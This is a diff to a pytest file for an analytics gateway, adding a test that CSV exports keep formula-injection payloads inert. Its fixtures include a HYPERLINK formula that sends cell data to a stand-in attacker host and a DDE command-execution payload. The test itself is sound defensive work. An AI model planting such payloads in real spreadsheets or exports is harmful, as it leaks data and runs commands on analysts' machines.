@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -367,3 +369,16 @@ def test_metrics_count_outcomes_and_drop_reasons(client: TestClient, token: str)
     assert 'gateway_hits_dropped_total{site="demo",reason="no_consent"} 1' in text
     assert 'gateway_requests_invalid_total{reason="bad_request"} 1' in text
     assert 'gateway_consents_total{site="demo",action="custom"} 1' in text
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
+)
+def test_csv_export_keeps_formulas_inert(client: TestClient, token: str, hostile: str) -> None:
+    """A title from a visitor's browser must stay text when an analyst opens the CSV."""
+    client.get("/matomo.php", params=hit(token, action_name=hostile), headers=UA)
+    auth = {"Authorization": f"Bearer {ADMIN}"}
+    text = client.get("/api/sites/demo/hits", params={"format": "csv"}, headers=auth).text
+    header, row = list(csv.reader(io.StringIO(text)))
+    assert row[header.index("action_name")] == "'" + hostile
